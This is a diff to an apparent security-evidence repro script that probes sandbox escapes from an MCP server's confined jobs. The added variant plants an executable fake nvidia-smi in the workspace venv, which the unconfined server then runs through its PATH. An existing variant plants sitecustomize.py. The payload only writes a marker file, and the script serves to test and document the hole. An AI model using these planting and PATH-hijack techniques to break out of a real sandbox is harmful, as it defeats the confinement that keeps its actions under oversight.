@@ -9,7 +9,9 @@ Python process started from that venv afterwards runs it at start-up, the sandbo
 (``python -P -m kprof_mcp.sandbox``, unconfined, the server's user) first. The payload there writes a file
 outside the workspace.
 
-Usage (repository root): .venv/bin/python docs/evidence/sandbox/probe10/repro_selfws.py [pth|source|pythonpath]
+Usage (repository root): .venv/bin/python docs/evidence/sandbox/probe10/repro_selfws.py [pth|source|pythonpath|path]
+(path: the workspace's venv activated, its bin/ first on the server's PATH: the command plants bin/nvidia-smi,
+mode 0755 at creation, which the server itself runs at the next job's preflight)
 (pythonpath: no venv in the workspace; the server's PYTHONPATH names the workspace's src/, where the command
 writes a sitecustomize.py)
 Prints SUCCEEDED (a file outside written by a process of the server's that is not confined) or BLOCKED.
@@ -45,7 +47,12 @@ try:
     print("control: wrote outside directly (NOT confined?)")
 except OSError as e:
     print("control: outside write refused:", e)
-if {HOW!r} == "pythonpath":
+if {HOW!r} == "path":
+    target = os.path.join(ws, ".venv", "bin", "nvidia-smi")
+    fd = os.open(target, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755)  # its mode at creation: no chmod
+    os.write(fd, b'#!/bin/sh\\necho "pid $$ uid $(id -u) argv nvidia-smi $*" >> {PWNED}\\nexit 1\\n')
+    os.close(fd)
+elif {HOW!r} == "pythonpath":
     target = os.path.join(ws, "src", "sitecustomize.py")
     with open(target, "w") as f:
         f.write(payload.replace("import os, sys; ", "import os, sys\\n") + "\\n")
@@ -91,6 +98,8 @@ async def main() -> str:
         HOW == "pythonpath"
     ):  # kprof from the checkout's venv; the operator's PYTHONPATH names the project's src/
         env["PYTHONPATH"] = f"{WS / 'src'}:{WS}"
+    if HOW == "path":  # the workspace's venv activated in the shell that started the server
+        env["PATH"] = f"{WS / '.venv' / 'bin'}:{env['PATH']}"
     py = REPO / ".venv" / "bin" / "python" if HOW == "pythonpath" else WS / ".venv" / "bin" / "python"
     params = StdioServerParameters(
         command=str(py),
@@ -116,7 +125,9 @@ if __name__ == "__main__":
         got = anyio.run(main)
         print("outside file written by:\n" + (got or "(nothing)"))
         # the supervisor's argv: -m POLICY.json -- ... (sys.argv[0] is still '-m' while site runs .pth files)
-        unconfined = [ln for ln in got.splitlines() if "kprof-policies-" in ln and "'--'" in ln]
+        unconfined = [
+            ln for ln in got.splitlines() if ("kprof-policies-" in ln and "'--'" in ln) or "nvidia-smi" in ln
+        ]
         print(
             "RESULT selfws_" + HOW + ":",
             "SUCCEEDED (the unconfined supervisor ran the command's code)" if unconfined else "BLOCKED",
